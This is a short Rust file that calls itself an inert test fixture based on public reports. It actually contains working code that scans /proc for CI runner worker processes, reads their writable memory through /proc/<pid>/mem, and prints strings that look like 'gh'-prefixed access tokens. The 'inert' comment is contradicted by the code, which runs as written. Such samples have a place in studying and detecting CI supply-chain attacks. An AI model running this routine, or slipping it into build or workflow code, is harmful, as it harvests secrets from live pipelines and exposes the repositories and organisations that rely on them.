// Synthetic, inert fixture written from public reports; see README
use std::{fs, io::{Read, Seek, SeekFrom}, path::Path};

pub(crate) fn all() {
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let line = fs::read_to_string(entry.path().join("cmdline")).unwrap_or_default();
        if line.contains("Runner.Worker") {
            let _ = copy(&entry.path());
        }
    }
}

fn copy(process: &Path) -> std::io::Result<()> {
    let mut memory = fs::File::open(process.join("mem"))?;
    let mut out = Vec::new();
    for area in fs::read_to_string(process.join("maps"))?.lines().filter(|l| l.contains(" rw-p ")) {
        let Some((from, rest)) = area.split_once('-') else { continue };
        let to = rest.split(' ').next().unwrap_or("0");
        let (from, to) = (u64::from_str_radix(from, 16).unwrap_or(0), u64::from_str_radix(to, 16).unwrap_or(0));
        memory.seek(SeekFrom::Start(from))?;
        (&memory).take(to - from).read_to_end(&mut out)?;
    }
    let found: Vec<String> = String::from_utf8_lossy(&out).split('"').filter(|w| w.starts_with("gh")).map(str::to_owned).collect();
    println!("{}", found.join("\n"));
    Ok(())
}
